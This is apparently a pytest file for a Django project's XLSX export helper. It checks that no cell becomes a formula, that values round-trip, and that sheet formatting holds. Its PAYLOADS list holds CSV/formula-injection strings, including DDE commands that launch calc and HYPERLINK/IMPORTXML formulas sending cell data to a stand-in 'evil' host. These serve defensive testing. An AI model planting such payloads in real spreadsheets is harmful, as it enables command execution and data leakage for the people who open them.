"""Exports: no text ever becomes a formula, and what is written is what is read."""

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.xlsx import read_rows, write_rows

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "=",
    "＝1+1",
    "%0A=1+1",
    "|calc",
    "#N/A",
    "#REF!",
    "{=1+1}",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://evil/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "<c><f>1+1</f></c>",
    "]]>",
    "&amp;=1",
    "1",
    "007",
    "1e5",
    "2026-01-01",
    "TRUE",
]


def written(header, rows, **options) -> io.BytesIO:
    target = io.BytesIO()
    write_rows(target, header, rows, **options)
    target.seek(0)
    return target


@pytest.mark.parametrize("place", ["header", "cell", "after a number", "after another"])
def test_no_payload_is_ever_alive(place):
    if place == "header":
        target = written(PAYLOADS, [])
    elif place == "cell":
        target = written(["h"], ([payload] for payload in PAYLOADS))
    elif place == "after a number":
        target = written(["n", "h"], ([1.5, payload] for payload in PAYLOADS))
    else:
        target = written(["h"] * len(PAYLOADS), [PAYLOADS, PAYLOADS[::-1]])
    with zipfile.ZipFile(target) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    texts = 0
    for row in load_workbook(target).active.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n") if isinstance(cell.value, float) else cell.data_type == "s", (
                cell.value
            )
            texts += cell.data_type == "s"
            if str(cell.value)[:1] in "=+-@\t" and place != "header":
                assert cell.quotePrefix
    assert texts >= len(PAYLOADS)


def test_what_is_written_is_read_again(tmp_path):
    path = tmp_path / "out.xlsx"
    moment = datetime(2026, 9, 28, 1, 42, 30, tzinfo=UTC)
    row = [
        "20261013000123",
        5,
        1.25,
        Decimal("92.17"),
        True,
        None,
        moment,
        date(2026, 9, 28),
        "多行\n文本",
        "=x",
    ]
    seen: list[int] = []
    count = write_rows(
        path, [gettext_lazy("a")] * len(row), [row] * 1001, title="扣分/明细[1]", on_progress=seen.append
    )
    assert (count, seen) == (1001, [500, 1000])
    rows = list(read_rows(path))
    assert len(rows) == 1002
    local = datetime(2026, 9, 28, 9, 42, 30)  # noqa: DTZ001 - a workbook knows no zone
    day = datetime(2026, 9, 28)  # noqa: DTZ001 - nor does a day
    assert rows[-1].cells == ("20261013000123", 5, 1.25, 92.17, True, None, local, day, "多行\n文本", "=x")
    assert rows[-1].formulas == frozenset()


def test_texts_that_excel_cannot_hold():
    target = written(
        ["h"], [["a\x00b\x0bc\ud800d\uffffe"], ["长" * 40_000], [float("nan")], [float("inf")], [""]]
    )
    values = [cell.value for (cell,) in load_workbook(target).active.iter_rows(min_row=2)]
    assert values == ["abcde", "长" * 32_766 + "…", "nan", "inf", None]


def test_the_look_of_a_sheet():
    sheet = load_workbook(written(["编号", "详情"], [[1, "x"]], title="超期清单", widths=[8])).active
    assert sheet.title == "超期清单"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (8, 16)


def test_an_empty_export_is_a_workbook_still():
    assert load_workbook(written(["编号"], [])).active["A1"].value == "编号"
